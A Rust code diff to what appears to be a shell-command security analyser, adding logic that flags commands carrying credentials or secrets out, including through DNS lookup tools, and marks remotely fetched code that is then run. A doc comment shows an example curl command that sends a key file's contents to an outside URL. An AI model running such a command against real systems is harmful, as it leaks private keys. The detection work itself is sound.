@@ -5,7 +5,7 @@ use super::walk::silent;
 use super::{assign, builtins, call, words};
 use crate::classify::command::{self, Invocation, Stream};
 use crate::classify::{Scene, Word};
-use crate::model::{CodeOrigin, Effect, GapKind, Hides, Operation, Resource, ResourceKind, Span};
+use crate::model::{Area, CodeOrigin, Effect, GapKind, Hides, Operation, Resource, ResourceKind, Span, Zone};
 
 /// Resolves the words of a simple command and runs it.
 pub(super) fn run(scene: &mut Scene<'_>, simple: &Simple<'_>, span: Span, stdin: &Stream) -> Stream {
@@ -51,6 +51,9 @@ pub(super) fn command(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_,
 /// Runs one simple command that functions and aliases do not stand in for: a builtin or a program.
 pub(super) fn without_functions(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> Stream {
     let Some(name) = words.first() else { return silent() };
+    if name.text.is_empty() {
+        return silent();
+    }
     if !is_program(name) {
         return dynamic(scene, words, about);
     }
@@ -63,6 +66,7 @@ pub(super) fn without_functions(scene: &mut Scene<'_>, words: &[Word], about: &C
 /// Hands a command to the catalogue of programs.
 fn program(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> Stream {
     let invocation = Invocation { words, span: about.span, stdin: about.stdin, assignments: about.assignments };
+    let mark = scene.mark();
     let mut out = scene.step(
         || label(words),
         about.span,
@@ -74,10 +78,45 @@ fn program(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> St
             command::run(scene, &invocation)
         },
     );
+    if !scene.files.is_empty() {
+        carried(scene, words, about, mark);
+    }
     if out.text.is_none() {
         out.text = builtins::simple_output(words).map(|text| (text, about.span));
     }
     out
+}
+
+/// Programs that put their operands into a question to a name server.
+const LOOKS_UP: &[&str] = &["dig", "drill", "getent", "host", "nslookup", "ping"];
+
+/// `curl "https://…/?k=$(cat key.pem)"`: a command that sends its words out sends the secrets that substitutions read.
+fn carried(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>, mark: usize) {
+    let sends = |effect: &&mut Effect| effect.operation == Operation::Export && effect.zone != Some(Zone::Local);
+    let mut sent = scene.since(mark).iter_mut().find(sends).map(|effect| effect.clone());
+    // A name that is looked up reaches whoever answers for its domain.
+    if sent.is_none()
+        && let Some(program) = words.first().filter(|word| LOOKS_UP.contains(&&*word.text))
+    {
+        let mut effect = Effect::new(Operation::Export, Resource::new(ResourceKind::Item, ""));
+        (effect.zone, effect.peer) = (Some(Zone::External), Some("DNS".to_owned()));
+        effect.by.clone_from(&program.text);
+        effect.span = about.span;
+        sent = Some(effect);
+    }
+    let Some(sent) = sent else { return };
+    // Logging in with a token is what the token is for.
+    let logs_in = |word: &&Word| !["uthorization", "Bearer", "oken"].iter().any(|name| word.text.contains(name));
+    let parts = words.iter().filter(logs_in).flat_map(|word| &word.unknown);
+    let secrets: Vec<Resource> = parts
+        .filter_map(|part| scene.files.get(&part.name))
+        .flat_map(|stream| &stream.carries)
+        .filter(|resource| resource.areas.has(Area::Credential) || resource.kind == ResourceKind::Secret)
+        .cloned()
+        .collect();
+    for resource in secrets {
+        scene.effect(Effect { resource, span: about.span, ..sent.clone() });
+    }
 }
 
 fn label(words: &[Word]) -> String {
@@ -108,11 +147,18 @@ fn is_program(word: &Word) -> bool {
 fn dynamic(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> Stream {
     let [program, rest @ ..] = words else { return Stream::default() };
     let span = program.span.or(about.span);
-    scene.gap(GapKind::DynamicCode, Hides::Anything, span, program.text.clone());
+    if rest.first().is_some_and(|word| word.text == "=" && !word.quoted) {
+        scene.gap(GapKind::Unparsed, Hides::Anything, about.span, "looks like PowerShell");
+        return Stream::default();
+    }
+    let fetched = program.unknown.iter().any(|part| scene.files.get(&part.name).is_some_and(|stream| stream.remote));
+    if !fetched {
+        scene.gap(GapKind::DynamicCode, Hides::Anything, span, program.text.clone());
+    }
     let mut resource = Resource::new(ResourceKind::Code, program.text.clone());
     resource.unresolved = true;
     let mut effect = Effect::new(Operation::Execute, resource);
-    effect.code = Some(CodeOrigin::Dynamic);
+    effect.code = Some(if fetched { CodeOrigin::Remote } else { CodeOrigin::Dynamic });
     effect.by = "shell".to_owned();
     effect.span = span;
     scene.effect(effect);
